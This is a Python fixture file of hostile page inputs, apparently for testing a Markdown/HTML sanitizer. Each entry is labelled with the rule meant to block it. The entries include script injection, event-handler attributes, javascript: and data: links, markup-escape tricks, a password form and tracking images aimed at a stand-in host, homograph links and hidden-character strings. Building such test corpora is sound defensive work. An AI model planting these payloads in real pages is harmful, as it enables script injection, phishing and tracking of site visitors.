"""Texts that would run, load or feign something on a page, by what they try, and the rules that stop them.

`active` says that a browser would do something by itself or at a click, so the finished page must not hold
it either; the others deceive whoever reads or reviews the text.
"""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    """A piece of a page."""

    name: str
    text: str
    rule: str
    active: bool = True


def _each(rule: str, texts: dict[str, str], *, active: bool = True) -> list[Payload]:
    return [Payload(name, text, rule, active) for name, text in texts.items()]


ELEMENTS = _each(
    "html-tag",
    {
        "a script": "<script>run()</script>",
        "a script of another host": '<script src="https://evil.example/x.js"></script>',
        "a script within a sentence": "Hear <script>run()</script> them out.",
        "a script with a type": "<script type=module>run()</script>",
        "a map of modules": '<script type="importmap">{"imports": {"./box.js": "https://evil.example/"}}</script>',
        "a script in capitals": "<SCRIPT>run()</SCRIPT>",
        "a script that is not closed": "<script>run()",
        "a frame": '<iframe src="https://evil.example/"></iframe>',
        "a frame with a page of its own": '<iframe srcdoc="&lt;script&gt;run()&lt;/script&gt;"></iframe>',
        "an object": '<object data="https://evil.example/"></object>',
        "an embedded file": '<embed src="https://evil.example/x.swf">',
        "a form for passwords": '<form action="https://evil.example/"><input type="password"></form>',
        "a button with an address": '<button formaction="javascript:run()">Send</button>',
        "a page that goes elsewhere": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "another base": '<base href="https://evil.example/">',
        "a style sheet of another host": '<link rel="stylesheet" href="https://evil.example/x.css">',
        "a style": "<style>body { display: none }</style>",
        "plain text to the end": "<plaintext>the rest",
        "what is for no scripts": "<noscript><p title='</noscript><img src=x onerror=run()>'></noscript>",
        "a box for text": "<textarea>the rest",
        "a fenced frame": "<fencedframe></fencedframe>",
        "text that moves": "<marquee onstart=run()>x</marquee>",
        "a template that the scripts copy": '<template id="copy"><button onclick=run()>x</button></template>',
        "an animation": "<svg><animate onbegin=run() attributeName=x dur=1s></svg>",
        "a style in a picture": "<svg><style>* { fill: red }</style></svg>",
        "what is used from elsewhere": '<svg><use href="https://evil.example/x.svg#y"></use></svg>',
        "formulas that hide a script": "<math><mtext><table><mglyph><style><img src=x onerror=run()></style>",
        "the end of the page and more": "</div></article></main></body></html><script>run()</script>",
        "behind a comment that ends early": "<!-- x --!><script>run()</script> -->",
        "behind a comment that is none": "<!--><script>run()</script> -->",
        "behind a comment without an end": "<!-- open\n\n<script>run()</script>",
        "behind a fence without an end": "```\nopen\n\n<script>run()</script>",
        "behind an instruction": "<?php ?><script>run()</script>",
        "in the title of a box": '!!! note "<script>run()</script>"\n    Text.',
        "in the title of details": '??? note "<script>run()</script>"\n    Text.',
        "in the name of a tab": '=== "<script>run()</script>"\n    Text.',
        "behind a task": "- [ ] Write</span></label><script>run()</script>",
        "in a heading": "## Calm <script>run()</script>",
        "in a cell": "| a | b |\n| - | - |\n| <script>run()</script> | c |",
        "in a list": "- one\n\n    <script>run()</script>",
        "in a quotation": "> <script>run()</script>",
        "in a link's text": "[<script>run()</script>](https://example.org)",
        "in an element of Markdown": '<div markdown="1">\n\n<script>run()</script>\n\n</div>',
        "a tag over two lines": "<script\n>run()</script\n>",
        "a slash for a space": "<script/x>run()</script>",
        "a backslash before it": "\\<script>run()</script>",
    },
)
# What the frame has as well, so that only the check can tell.
FEIGNED = _each(
    "html-tag",
    {
        "a dialog": "<dialog open>Log in again</dialog>",
        "a field": "<input autofocus>",
        "an old frame": "<frameset><frame src='https://evil.example/'></frameset>",
    },
    active=False,
)
ATTRIBUTES = _each(
    "html-attribute",
    {
        "a picture that is not there": "<img src=x onerror=run()>",
        "a picture that is there": '<img src="../assets/picture.svg" onload=run()>',
        "details that open": "<details open ontoggle=run()><summary>x</summary></details>",
        "a drawing": "<svg onload=run()></svg>",
        "a block of Markdown": '<div markdown="1" onclick="run()">\n\nText\n\n</div>',
        "an attribute list at a link": '[x](https://example.org){: onclick="run()" }',
        "an attribute list at a paragraph": 'Text\n{: onmouseover="run()" }',
        "an attribute list at a heading": '## Calm { onclick="run()" }',
        "an attribute list without a colon": "*x*{ onfocus=run() tabindex=0 }",
        "an attribute list that covers the page": '*x*{: style="position:fixed;inset:0;z-index:99" }',
        "an attribute list for another window": "[x](https://example.org){: target=_blank }",
        "an attribute list that asks for the focus": "*x*{: autofocus contenteditable }",
        "a style": '<div style="background:url(https://evil.example/)">x</div>',
        "a link that tells of a click": '<a href="https://example.org" ping="https://evil.example/">x</a>',
        "an old link of a drawing": '<svg><a xlink:href="javascript:run()">x</a></svg>',
        "odd signs in a name": '<div x"y=1 onclick=run()>x</div>',
        "a quotation mark within another": "<div title='x\" onclick=\"run()' onclick=run()>x</div>",
        "capitals": "<B ONCLICK=run()>x</B>",
        "a slash before it": "<b/onclick=run()>x</b>",
        "an access key": "<a href='../' accesskey=x>x</a>",
        "an attribute of a table": '<table background="https://evil.example/"><tr><td>x</td></tr></table>',
    },
)
ADDRESSES = _each(
    "link-scheme",
    {
        "a script": "[x](javascript:run())",
        "small and capital letters": "[x](JaVaScRiPt:run())",
        "a letter as an entity": "[x](&#106;avascript:run())",
        "entities without their ends": '<a href="&#x6A&#x61vascript&colon;run()">x</a>',
        "a reference": "[x][y]\n\n[y]: javascript:run()",
        "a short reference": "[x]\n\n[x]: <javascript:run()>",
        "raw HTML": '<a href="javascript:run()">x</a>',
        "spaces before it": '<a href=" \n javascript:run()">x</a>',
        "a page as data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "an older script": "[x](vbscript:run())",
        "a blob": "[x](blob:https://example.org/1)",
        "a search of the computer": "[x](search-ms:query=y&crumb=location)",
        "a program": "[x](ms-word:ofe|u|https://evil.example/x)",
        "a text message": "[x](sms:+48123456789)",
        "no scheme at all": "[x](//evil.example/x)",
        "no scheme in raw HTML": '<a href="//evil.example/x">x</a>',
        "a backslash in raw HTML": '<a href="/\\evil.example/x">x</a>',
        "a footnote": "x[^1]\n\n[^1]: [y](javascript:run())",
        "a picture as data": "![x](data:image/svg+xml,<svg/>)",
        "a picture that is a script": "![x](javascript:run())",
    },
)
PICTURES = _each(
    "media-foreign",
    {
        "Markdown": "![x](https://evil.example/p.gif)",
        "raw HTML": '<img src="https://evil.example/p.gif" alt="x">',
        "no scheme": "![x](//evil.example/p.gif)",
        "one of several": '<img src="../assets/picture.svg" srcset="https://evil.example/p.gif 2x" alt="x">',
        "a film": '<video src="https://evil.example/f.mp4" controls></video>',
        "the picture of a film": '<video poster="https://evil.example/f.png" src="../assets/f.mp4"></video>',
        "a source": '<picture><source srcset="https://evil.example/p.gif"><img src="x.svg"></picture>',
        "a reference": "![x][y]\n\n[y]: https://evil.example/p.gif",
    },
)
NAMES = _each(
    "name-reserved",
    {
        "the menu": '<div id="menu">x</div>',
        "the main part": "## Calm {: #content }",
        "a notice": "Text\n{: .banner .stale }",
        "the choice of a language": '<a data-language="pl" href="https://example.org">x</a>',
        "the frame's own class": '<div class="md-header">x</div>',
        "a box's class": '!!! banner "x"\n    Text.',
    },
    active=False,
)
DECEPTION = [
    *_each(
        "link-deceptive",
        {
            "another host in the text": "[https://bank.example](https://evil.example)",
            "a host without a scheme": "[bank.example.com](https://evil.example/)",
            "the host as a part of another": "[bank.example.com](https://bank.example.com.evil.example/)",
            "a name before the host": "[x](https://bank.example@evil.example/)",
            "a host in two scripts": "[x](https://b\u0430nk.example/)",
            "a host in two scripts, encoded": "[x](https://xn--bnk-6cd.example/)",
            "another address for mail": "[a@bank.example](mailto:a@evil.example)",
            "emphasis in the text": "[**bank**.example.com](https://evil.example/)",
        },
        active=False,
    ),
    *_each(
        "character-hidden",
        {
            "text turned round": "\u202egpj.exe\u202c",
            "isolates": "\u2066x\u2069",
            "no width": "exa\u200bmple",
            "a word joiner": "exa\u2060mple",
            "a byte order mark": "exa\ufeffmple",
            "tags": "x\U000e0041\U000e0042",
            "an escape for terminals": "x\x1b[31my",
            "a backspace": "x\x08y",
            "Markdown's own marks": "\x02wzxhzdk:0\x03",
            "an entity": "&#x202e;x",
            "a named entity": "&rlm;x&ZeroWidthSpace;",
            "a filler": "x\u3164y",
            "a line's end that is none": "x\u2028y",
            "a control of the second kind": "x\x9by",
            "within an address": "[x](https://exa\u200bmple.org)",
        },
        active=False,
    ),
    *_each(
        "letters-mixed",
        {
            "Cyrillic": "\u0441ustomer",
            "Greek": "p\u03bfint",
            "wide letters": "pa\uff59",
            "mathematical": "\U0001d429ay",
        },
        active=False,
    ),
    *_each(
        "markup-open",
        {
            "a comment": "Text <!-- open",
            "a comment that ends early": "<!-- x --!> y -->",
            "a comment that is none": "<!--> x -->",
            "a fence": "```\nopen",
            "a block": "<div>\n\nText",
            "the end of a part of the page": "Text</section>",
            "bold print": "Text <b>and more",
        },
        active=False,
    ),
]
ALL = [*ELEMENTS, *FEIGNED, *ATTRIBUTES, *ADDRESSES, *PICTURES, *NAMES, *DECEPTION]
# What looks dangerous and is none: told by no rule of these.
HARMLESS = {
    "an example in code": "`<script>run()</script>`",
    "an example in a block": "    <script>run()</script>",
    "escaped signs": "&lt;script&gt;run()&lt;/script&gt;",
    "a quotation mark in a target": '[x](https://example.org/"onclick="run\\(\\))',
    "a quotation mark in a title": "[x](https://example.org 'a\" onclick=\"run()')",
    "braces": "{{ config.site_name }} and {0}",
    "less than": "5 < 6 and 7 > 6",
    "words about it": "A javascript: link, an onclick, a script.",
    "a comment": "<!-- a note for editors: <script> is refused -->",
    "a comparison in a language's own letters": "żółć, šđčćž, naïve, 20 °C, 5 µm, 3 kΩ",
    "a sign of several": "👩‍💻 ❤️",
}
